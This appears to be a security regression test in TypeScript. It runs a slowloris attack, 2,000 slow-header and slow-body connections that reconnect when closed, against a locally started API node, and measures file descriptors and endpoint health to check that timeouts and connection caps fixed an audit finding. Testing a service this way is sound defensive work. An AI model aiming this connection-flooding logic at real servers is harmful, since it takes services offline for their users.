/**
 * Attack 5b (issue 13 finding 5, "no timeouts, no connection cap"): a local client without the token
 * opens 2 000 connections to the API and never finishes a request on them: half send their headers a
 * line a second and never end them, half send whole headers announcing a 64 KiB body and then a byte
 * a second. Like any slowloris it opens a new connection for each one the node closes (after
 * `RECONNECT_MS`). Meanwhile it samples, once a second, the connections it holds, the node's open file
 * descriptors (/proc/PID/fd) and whether `/health` and an authenticated read still answer
 * (api.md Limits rule 4: headers, request and idle timeouts and a cap on connections).
 */
import { readFileSync } from 'node:fs';
import net from 'node:net';
import type { ProcNode } from '../../reference-node/test/e2e/processNetwork.js';
import { quantile } from '../../reference-node/test/netns/netnsNetwork.js';
import {
  type AttackOptions,
  crashCheck,
  type Figures,
  probe,
  procStats,
  type Reply,
  sleep,
  startVictims,
  tally,
  tokenOf,
} from './common.js';

/** Issue 13 finding 5: "2 × 9,990 slow-body connections without a token exhausted the node's 20,000 file descriptors". */
const BEFORE = { slowConnections: 2 * 9_990, nodeFdLimit: 20_000, nodeFdsExhausted: true };

const CONNECTIONS = 2_000;
/** How long the attacker holds its connections (past the default 30 s request timeout), then lets go. */
const HOLD_MS = 40_000;
/** The attacker writes one header line or one body byte on each connection this often. */
const DRIP_MS = 1_000;
/** A connection the node closed is opened again after this long. */
const RECONNECT_MS = 1_000;
/** A connection closed sooner than this after it connected was refused at accept. */
const AT_ACCEPT_MS = 500;

type Kind = 'slowHeaders' | 'slowBody';

function fdLimit(node: ProcNode): number | undefined {
  try {
    const limits = readFileSync(`/proc/${node.proc?.pid}/limits`, 'utf8');
    return Number(/^Max open files\s+(\d+)/m.exec(limits)?.[1]);
  } catch {
    return undefined;
  }
}

export async function slowConnections(opts: AttackOptions): Promise<Figures> {
  const victimNet = await startVictims(2);
  const sockets = new Map<net.Socket, Kind>();
  let holding = true;
  try {
    const victim = victimNet.nodes[0]!;
    const port = Number(new URL(victim.apiUrl).port);
    const baseline = procStats(victim);
    const lifetimes: Record<Kind, number[]> = { slowHeaders: [], slowBody: [] };
    const closedAtAccept: Record<Kind, number> = { slowHeaders: 0, slowBody: 0 };
    const answered: Record<string, number> = {};
    let opened = 0;
    let connectErrors = 0;
    let open = 0;

    const connect = (kind: Kind): void => {
      if (!holding) return;
      const s = net.connect({ host: '127.0.0.1', port });
      sockets.set(s, kind);
      let connectedAt = 0;
      s.on('connect', () => {
        connectedAt = Date.now();
        opened++;
        open++;
        s.write(
          kind === 'slowHeaders'
            ? 'GET /v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\n'
            : 'POST /v1/alerts HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 65536\r\n\r\n{',
        );
      });
      s.on('data', (chunk: Buffer) => {
        // What the node answered before closing (e.g. 408 for a request not finished in time).
        const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1];
        if (status !== undefined) answered[`${kind} ${status}`] = (answered[`${kind} ${status}`] ?? 0) + 1;
      });
      s.on('error', () => {
        if (connectedAt === 0) connectErrors++;
      });
      s.on('close', () => {
        sockets.delete(s);
        if (connectedAt > 0) {
          open--;
          const life = Date.now() - connectedAt;
          if (life < AT_ACCEPT_MS) closedAtAccept[kind]++;
          else if (holding) lifetimes[kind].push(life);
        }
        if (holding) setTimeout(() => connect(kind), RECONNECT_MS);
      });
    };
    const drip = setInterval(() => {
      for (const [s, kind] of sockets) {
        if (s.connecting || s.destroyed) continue;
        s.write(kind === 'slowHeaders' ? `X-Slow-${Date.now() % 1000}: 1\r\n` : ' ');
      }
    }, DRIP_MS);

    const t0 = Date.now();
    for (let i = 0; i < CONNECTIONS; i++) {
      connect(i % 2 === 0 ? 'slowHeaders' : 'slowBody');
      if (i % 100 === 99) await sleep(20);
    }
    const samples: Array<{
      at: number;
      held: number;
      fds?: number;
      health: Reply;
      tokenRead: Reply;
      metrics: Reply;
    }> = [];
    const holdMs = Math.round(HOLD_MS * opts.scale);
    while (Date.now() - t0 < holdMs) {
      await sleep(1_000);
      const [health, tokenRead, metrics] = await Promise.all([
        probe(`${victim.apiUrl}/health`, { timeoutMs: 2_000 }),
        probe(`${victim.apiUrl}/v1/status`, { headers: tokenOf(victim), timeoutMs: 2_000 }),
        probe(victim.metricsUrl, { timeoutMs: 2_000 }),
      ]);
      const fds = procStats(victim)?.fds;
      samples.push({
        at: Date.now() - t0,
        held: open,
        ...(fds === undefined ? {} : { fds }),
        health,
        tokenRead,
        metrics,
      });
    }
    holding = false;
    clearInterval(drip);
    for (const s of sockets.keys()) s.destroy();
    await sleep(2_000);
    const afterRelease = {
      fds: procStats(victim)?.fds,
      health: (await probe(`${victim.apiUrl}/health`)).status,
    };

    const fdSamples = samples.flatMap((s) => (s.fds === undefined ? [] : [s.fds]));
    const firstFail = samples.find((s) => s.health.status !== 200);
    const life = (xs: number[]): Figures => {
      const sorted = [...xs].sort((a, b) => a - b);
      return { closed: xs.length, p50Ms: quantile(sorted, 0.5), maxMs: sorted.at(-1) ?? null };
    };
    return {
      before: BEFORE,
      after: {
        connections: CONNECTIONS,
        holdS: Math.round(holdMs / 100) / 10,
        connectionsOpened: opened,
        connectErrors,
        // Connected as the attacker sees them (some the node closes at accept are not yet seen closed).
        clientOpenMax: Math.max(...samples.map((s) => s.held)),
        clientOpenAtEnd: samples.at(-1)?.held,
        closedAtAccept,
        closedLater: { slowHeaders: life(lifetimes.slowHeaders), slowBody: life(lifetimes.slowBody) },
        answeredBeforeClose: answered,
        nodeFdLimit: fdLimit(victim),
        nodeFds: { baseline: baseline?.fds, max: Math.max(...fdSamples), afterRelease: afterRelease.fds },
        health: {
          probes: samples.length,
          ok: samples.filter((s) => s.health.status === 200).length,
          answers: tally(samples.map((s) => s.health)),
          firstNot200AtS: firstFail === undefined ? null : Math.round(firstFail.at / 100) / 10,
          maxMs: Math.max(...samples.map((s) => s.health.ms)),
          afterRelease: afterRelease.health,
        },
        tokenRead: {
          probes: samples.length,
          ok: samples.filter((s) => s.tokenRead.status === 200).length,
          answers: tally(samples.map((s) => s.tokenRead)),
        },
        // The metrics endpoint has a server (and port) of its own.
        metricsPort: { probes: samples.length, ok: samples.filter((s) => s.metrics.status === 200).length },
      },
      node: crashCheck(victim),
    };
  } finally {
    holding = false;
    for (const s of sockets.keys()) s.destroy();
    await victimNet.stop();
  }
}
